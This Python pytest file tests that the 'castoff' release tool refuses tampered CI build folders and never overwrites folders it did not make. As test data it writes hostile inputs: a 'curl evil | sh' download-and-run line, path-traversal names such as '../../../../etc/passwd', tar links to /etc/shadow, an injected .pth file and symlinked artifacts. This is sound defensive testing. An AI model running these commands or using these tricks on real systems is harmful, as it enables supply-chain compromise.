"""Build folders an attacker controls (they come from CI jobs), and folders castoff must not touch.

Each case runs the real `castoff` command on a copy of a real build of the example and checks
the exit code, that the message names the file or key, and that nothing changed on disk.
"""

from __future__ import annotations

import hashlib
import io
import json
import os
import shutil
import tarfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import EXAMPLE
from tests.integration.conftest import castoff
from tests.wheels import elf_stub, rewrite_wheel

CONFIG = str(EXAMPLE / "pyproject.toml")
TARGET = "x86_64-unknown-linux-musl"
ARCHIVE = f"hello-{TARGET}.tar.gz"


def _tree(folder: Path) -> dict[str, str]:
    """Every file under a folder with its sha256: 'nothing changed' is this, equal."""
    if not folder.exists():
        return {}
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        if p.is_file() and not p.is_symlink()
        else "link"
        if p.is_symlink()
        else "dir"
        for p in sorted(folder.rglob("*"))
    }


@pytest.fixture
def build(out_dir: Path, first_build: dict[str, Any], tmp_path: Path) -> Path:
    """Return a private copy of one real target's build folder, inside a builds folder."""
    assert first_build["targets"]
    folder = tmp_path / "builds" / TARGET
    shutil.copytree(out_dir / TARGET, folder)
    return folder


def _manifest(folder: Path) -> dict[str, Any]:
    data: dict[str, Any] = json.loads((folder / "manifest.json").read_text())
    return data


def _save(folder: Path, manifest: dict[str, Any]) -> None:
    (folder / "manifest.json").write_text(json.dumps(manifest))


def _rehash(folder: Path, name: str) -> None:
    """Make the partial manifest agree with a file the attacker replaced (as they would)."""
    manifest = _manifest(folder)
    for artifact in manifest["artifacts"]:
        if artifact["name"] == name:
            data = (folder / name).read_bytes()
            artifact["sha256"] = hashlib.sha256(data).hexdigest()
            artifact["size"] = len(data)
    _save(folder, manifest)


def _wheel(folder: Path) -> Path:
    return next(folder.glob("*.whl"))


def _assemble(build: Path, out: Path, *extra: str) -> Any:
    return castoff(
        "assemble", "--config", CONFIG, "--target", TARGET, str(build.parent), "--out", str(out),
        *extra,
    )  # fmt: skip


def _refused(build: Path, out: Path, code: int, *needles: str) -> str:
    before = _tree(build.parent), _tree(out)
    result = _assemble(build, out)
    message = " ".join(result.stderr.split())
    assert result.returncode == code, result.stderr
    assert "Traceback" not in result.stderr
    for needle in needles:
        assert needle in message, message
    # Nothing was written anywhere: not the release folder, not the build folders.
    assert (_tree(build.parent), _tree(out)) == before
    assert not [p for p in out.parent.iterdir() if ".castoff-" in p.name]
    return message


def test_the_unchanged_copy_assembles(build: Path, tmp_path: Path) -> None:
    """The baseline every hostile case below changes one thing of."""
    result = _assemble(build, tmp_path / "dist")
    assert result.returncode == 0, result.stderr


@pytest.mark.parametrize("name", ["../../../../etc/passwd", "/etc/passwd", "..", "-rf"])
def test_a_manifest_naming_files_outside_its_folder_is_refused(
    build: Path, tmp_path: Path, name: str
) -> None:
    """Paths leaving the folder are never read, hashed or shipped: exit 4, the field named."""
    manifest = _manifest(build)
    manifest["artifacts"][1]["name"] = name
    _save(build, manifest)
    _refused(build, tmp_path / "dist", 4, "manifest.json", "artifacts[1].name")


def test_a_symlinked_artifact_is_refused(build: Path, tmp_path: Path) -> None:
    """A link could make castoff read and ship any file of the machine."""
    wheel = _wheel(build)
    secret = tmp_path / "secret.whl"
    shutil.copy(wheel, secret)
    wheel.unlink()
    wheel.symlink_to(secret)
    _refused(build, tmp_path / "dist", 8, wheel.name, "is a symbolic link")


def test_a_symlinked_build_folder_is_refused(build: Path, tmp_path: Path) -> None:
    """CI downloads are plain folders; a link among them is refused, not followed."""
    real = tmp_path / "elsewhere"
    build.rename(real)
    build.symlink_to(real)
    _refused(build, tmp_path / "dist", 8, TARGET, "is a symbolic link")


def test_an_extra_unplanned_artifact_is_refused(build: Path, tmp_path: Path) -> None:
    """A build makes exactly its three files; a fourth listed one is not shipped."""
    (build / "install.sh").write_text("curl evil | sh\n")
    manifest = _manifest(build)
    manifest["artifacts"].append(
        {
            "name": "install.sh",
            "kind": "archive",
            "sha256": "0" * 64,
            "size": 15,
            "platform_tags": [],
        }
    )
    _save(build, manifest)
    _rehash(build, "install.sh")
    _refused(build, tmp_path / "dist", 8, "install.sh", "makes exactly")


def test_a_manifest_of_an_unknown_target_is_refused(build: Path, tmp_path: Path) -> None:
    """A target outside the plan: named, nothing assembled."""
    manifest = _manifest(build)
    manifest["target"] = "sparc64-unknown-linux-gnu"
    _save(build, manifest)
    _refused(build, tmp_path / "dist", 8, "sparc64-unknown-linux-gnu", "not a target of this")


@pytest.mark.parametrize(
    ("member", "data", "needle"),
    [
        (
            "castoff_hello-0.1.0.dist-info/METADATA",
            b"Metadata-Version: 2.1\nName: evil\nVersion: 0.1.0\n",
            "METADATA names the project 'evil'",
        ),
        (
            "castoff_hello-0.1.0.dist-info/METADATA",
            b"Metadata-Version: 2.1\nName: castoff-hello\nVersion: 9.9\n",
            "METADATA says version 9.9",
        ),
        (
            "castoff_hello-0.1.0.data/scripts/hello",
            b"#!/bin/sh\ncurl evil | sh\n",
            "is a script or data, not an elf program",
        ),
        ("castoff_hello-0.1.0.data/scripts/hello", None, "the binary is missing"),
        (
            "castoff_hello-0.1.0.data/scripts/pip",
            elf_stub(),
            "scripts/pip', which is not one of the planned",
        ),
        ("evil.pth", b"import os\n", "'evil.pth' is outside"),
        ("castoff_hello-0.1.0.data/../../x", b"x", "'..' part"),
    ],
)
def test_a_wheel_consistent_in_itself_but_not_what_the_plan_promises_is_refused(
    build: Path, tmp_path: Path, member: str, data: bytes | None, needle: str
) -> None:
    """A rewritten wheel with a matching RECORD and manifest: castoff's own checks refuse it."""
    wheel = _wheel(build)
    rewritten = rewrite_wheel(wheel, tmp_path / wheel.name, {member: data})
    shutil.move(rewritten, wheel)
    _rehash(build, wheel.name)
    _refused(build, tmp_path / "dist", 8, wheel.name, needle)


def test_a_wheel_and_archive_both_holding_another_cpu_are_refused_by_the_audit(
    build: Path, tmp_path: Path
) -> None:
    """Both swapped consistently for an aarch64 program: the audit says what the tag promised."""
    program = elf_stub(machine=183)
    wheel = _wheel(build)
    shutil.move(
        rewrite_wheel(
            wheel, tmp_path / wheel.name, {"castoff_hello-0.1.0.data/scripts/hello": program}
        ),
        wheel,
    )
    _rehash(build, wheel.name)
    _write_archive(build / ARCHIVE, {f"hello-{TARGET}/hello": program})
    _residecar(build)
    _refused(build, tmp_path / "dist", 7, "is EM_AARCH64, not EM_X86_64")


def test_a_wheel_and_archive_with_different_programs_are_refused(
    build: Path, tmp_path: Path
) -> None:
    """One build makes both: the archive's program must be the wheel's."""
    _write_archive(build / ARCHIVE, {f"hello-{TARGET}/hello": elf_stub()})
    _residecar(build)
    _refused(build, tmp_path / "dist", 8, "hold different binaries")


def _write_archive(path: Path, members: dict[str, bytes], *, kind: bytes = tarfile.REGTYPE) -> None:
    with tarfile.open(path, "w:gz") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.type = kind
            info.mode = 0o755
            info.size = len(data) if kind == tarfile.REGTYPE else 0
            if kind != tarfile.REGTYPE:
                info.linkname = "/etc/shadow"
            archive.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)


def _residecar(build: Path) -> None:
    digest = hashlib.sha256((build / ARCHIVE).read_bytes()).hexdigest()
    (build / f"{ARCHIVE}.sha256").write_text(f"{digest}  {ARCHIVE}\n")
    _rehash(build, ARCHIVE)
    _rehash(build, f"{ARCHIVE}.sha256")


@pytest.mark.parametrize(
    ("members", "kind", "needle"),
    [
        ({"../../hello": b"x"}, tarfile.REGTYPE, "'..' part"),
        ({"/usr/local/bin/hello": b"x"}, tarfile.REGTYPE, "absolute path"),
        ({f"hello-{TARGET}/hello": b""}, tarfile.SYMTYPE, "is a link"),
        ({f"hello-{TARGET}/hello": b""}, tarfile.LNKTYPE, "is a link"),
    ],
)
def test_an_archive_whose_members_leave_their_folder_is_refused(
    build: Path, tmp_path: Path, members: dict[str, bytes], kind: bytes, needle: str
) -> None:
    """Tar members with '..', absolute paths, links: refused by name."""
    _write_archive(build / ARCHIVE, members, kind=kind)
    _residecar(build)
    _refused(build, tmp_path / "dist", 8, ARCHIVE, needle)


def test_a_sidecar_that_does_not_match_its_archive_is_refused(build: Path, tmp_path: Path) -> None:
    """The .sha256 beside an archive must be its sha256sum line."""
    (build / f"{ARCHIVE}.sha256").write_text(f"{'0' * 64}  {ARCHIVE}\n")
    _rehash(build, f"{ARCHIVE}.sha256")
    _refused(build, tmp_path / "dist", 8, f"{ARCHIVE}.sha256", "is not the sha256sum line")


def test_a_truncated_wheel_is_refused(build: Path, tmp_path: Path) -> None:
    """Cut short in transit (and re-hashed): not a readable wheel."""
    wheel = _wheel(build)
    wheel.write_bytes(wheel.read_bytes()[:1000])
    _rehash(build, wheel.name)
    _refused(build, tmp_path / "dist", 8, wheel.name, "is not a readable wheel")


def test_out_that_is_a_file_is_refused(build: Path, tmp_path: Path) -> None:
    """--out naming a file: named, the file untouched."""
    out = tmp_path / "dist"
    out.write_text("my notes\n")
    result = _assemble(build, out)
    assert result.returncode == 8
    assert "is a file, not a folder" in result.stderr
    assert out.read_text() == "my notes\n"


def test_out_that_is_someone_elses_folder_is_never_deleted(build: Path, tmp_path: Path) -> None:
    """A folder castoff did not make is not replaced, even if it holds a manifest.json."""
    out = tmp_path / "dist"
    out.mkdir()
    (out / "thesis.tex").write_text("years of work\n")
    (out / "manifest.json").write_text('{"kind": "release"}\n')
    _refused(build, out, 8, "is not a release folder castoff made", "--out")


def test_out_that_is_a_link_is_refused(build: Path, tmp_path: Path) -> None:
    """A link as --out is not followed."""
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "dist").symlink_to(real)
    _refused(build, tmp_path / "dist", 8, "is a symbolic link")


def test_files_castoff_did_not_write_in_a_release_folder_are_kept(
    build: Path, tmp_path: Path
) -> None:
    """Over castoff's own release, a user's notes stop the command; the release stays."""
    out = tmp_path / "dist"
    assert _assemble(build, out).returncode == 0
    (out / "NOTES.md").write_text("what to announce\n")
    _refused(build, out, 8, "NOTES.md", "holds files castoff did not write")
    (out / "NOTES.md").unlink()
    # A folder whose publish started keeps its journal: castoff says how to finish instead.
    (out / "publish-journal.json").write_text("{}")
    _refused(build, out, 8, "publish-journal.json", "castoff publish --resume")
    (out / "publish-journal.json").unlink()
    # castoff's own folder is replaced whole.
    again = _assemble(build, out)
    assert again.returncode == 0, again.stderr


def test_retag_never_replaces_a_file(build: Path, tmp_path: Path) -> None:
    """Retag refuses to write over a file at the new name."""
    wheel = _wheel(build)
    out = tmp_path / "out"
    out.mkdir()
    target = out / wheel.name.replace(
        "musllinux_1_2_x86_64", "manylinux_2_17_x86_64.musllinux_1_2_x86_64"
    )
    target.write_text("someone's file\n")
    result = castoff(
        "retag", str(wheel), "--add-platform", "manylinux_2_17_x86_64", "--out", str(out)
    )
    assert result.returncode == 2, result.stderr
    assert "already exists" in result.stderr
    assert target.read_text() == "someone's file\n"
    assert sorted(p.name for p in out.iterdir()) == [target.name]


def test_retag_audits_before_writing(build: Path, tmp_path: Path) -> None:
    """A tag the binary cannot keep: refused before anything is written."""
    out = tmp_path / "out"
    result = castoff(
        "retag", str(_wheel(build)), "--add-platform", "manylinux_2_17_aarch64", "--out", str(out)
    )
    assert result.returncode == 7
    assert "manylinux_2_17_aarch64" in result.stderr
    assert not out.exists() or not any(out.iterdir())


def test_audit_of_damaged_files_is_a_finding_not_a_crash(build: Path, tmp_path: Path) -> None:
    """Truncated wheels and archives: exit 7 naming each."""
    damaged = tmp_path / "damaged"
    damaged.mkdir()
    for source in (_wheel(build), build / ARCHIVE):
        (damaged / source.name).write_bytes(source.read_bytes()[:700])
    result = castoff("audit", str(damaged), "--json")
    assert result.returncode == 7
    assert "Traceback" not in result.stderr
    findings = json.loads(result.stdout)["findings"]
    assert {f["artifact"] for f in findings} == {_wheel(build).name, ARCHIVE}


def test_build_never_replaces_a_folder_it_did_not_make(tmp_path: Path) -> None:
    """--out whose target folder is someone else's: refused before any build starts."""
    out = tmp_path / "out"
    mine = out / TARGET
    mine.mkdir(parents=True)
    (mine / "data.csv").write_text("1,2\n")
    result = castoff("build", "--config", CONFIG, "--target", TARGET, "--out", str(out))
    assert result.returncode == 2, result.stderr
    assert "data.csv" in " ".join(
        result.stderr.split()
    ) or "not a build folder castoff made" in " ".join(result.stderr.split())
    assert (mine / "data.csv").read_text() == "1,2\n"
    assert sorted(p.name for p in mine.iterdir()) == ["data.csv"]


def test_rehearse_never_empties_a_work_folder_it_did_not_make(tmp_path: Path) -> None:
    """--work pointing at a project folder: its dist/ and keys/ are not castoff's to delete."""
    work = tmp_path / "project"
    (work / "dist").mkdir(parents=True)
    (work / "dist" / "mine.txt").write_text("keep\n")
    result = castoff(
        "rehearse", "--config", CONFIG, "--target", TARGET, "--work", str(work),
        "--build-dir", str(tmp_path / "build"),
    )  # fmt: skip
    assert result.returncode == 2, result.stderr
    assert "is not a work folder castoff made" in " ".join(result.stderr.split())
    assert (work / "dist" / "mine.txt").read_text() == "keep\n"
    assert not (tmp_path / "build").exists()


@pytest.mark.parametrize(
    ("prepare", "needle"),
    [
        (lambda p: p.write_text("a file\n"), "is a file"),
        (lambda p: (p.mkdir(), (p / "old.key").write_text("k")), "is not empty"),
    ],
)
def test_keygen_into_a_file_or_someone_elses_folder_is_refused(
    tmp_path: Path, prepare: Callable[[Path], object], needle: str
) -> None:
    """Throwaway keys go into a new folder only; what is there stays as it was."""
    folder = tmp_path / "keys"
    prepare(folder)
    before = _tree(tmp_path)
    result = castoff("keygen", "--config", CONFIG, str(folder))
    assert result.returncode == 2, result.stderr
    assert needle in " ".join(result.stderr.split())
    assert _tree(tmp_path) == before


def test_init_writes_nothing_when_one_file_cannot_be_written(tmp_path: Path) -> None:
    """A file where .github should be a folder: refused before the first file is written."""
    project = tmp_path / "project"
    shutil.copytree(EXAMPLE, project, ignore=shutil.ignore_patterns("target"))
    text = (project / "pyproject.toml").read_text()
    (project / "pyproject.toml").write_text(text[: text.index("# ----")])
    (project / ".github").write_text("not a folder\n")
    before = _tree(project)
    result = castoff("init", str(project))
    assert result.returncode == 2, result.stderr
    assert ".github: is a file where castoff needs a folder" in " ".join(result.stderr.split())
    assert _tree(project) == before


@pytest.mark.parametrize(
    ("pyproject", "code", "needle"),
    [
        (b"\xff\xfe[project]\n", 3, "not UTF-8"),
        (b'build-system = "maturin"\n', 2, "build-system.build-backend is None"),
        (b'tool = 3\n[build-system]\nbuild-backend = "maturin"\n', 3, "tool: expected a table"),
        (b'[build-system]\nbuild-backend = ["maturin"]\n', 2, "not 'maturin'"),
    ],
)
def test_init_on_odd_pyprojects_is_a_paragraph(
    tmp_path: Path, pyproject: bytes, code: int, needle: str
) -> None:
    """Odd pyprojects: a clear error, nothing written."""
    (tmp_path / "pyproject.toml").write_bytes(pyproject)
    result = castoff("init", str(tmp_path))
    assert result.returncode == code, result.stderr
    assert "Traceback" not in result.stderr
    assert needle in " ".join(result.stderr.split())
    assert [p.name for p in tmp_path.iterdir()] == ["pyproject.toml"]


def test_a_manifest_that_is_a_fifo_never_hangs_assemble(build: Path, tmp_path: Path) -> None:
    """A named pipe where manifest.json should be: refused at once, not read forever."""
    (build / "manifest.json").unlink()
    os.mkfifo(build / "manifest.json")
    for given, code in ((build, 8), (build.parent, 8)):
        result = castoff(
            "assemble", "--config", CONFIG, "--target", TARGET, str(given),
            "--out", str(tmp_path / "d"),
        )  # fmt: skip
        assert result.returncode == code, result.stderr
        assert "manifest.json: is not a regular file" in " ".join(result.stderr.split())
        assert not (tmp_path / "d").exists()


def test_a_build_in_another_image_than_planned_is_refused(build: Path, tmp_path: Path) -> None:
    """The provenance records the image: it must be the one the plan pins (none, here)."""
    manifest = _manifest(build)
    manifest["image"] = "ghcr.io/evil/builder@sha256:" + "0" * 64
    _save(build, manifest)
    _refused(build, tmp_path / "dist", 8, "ghcr.io/evil/builder", "the plan pins None")
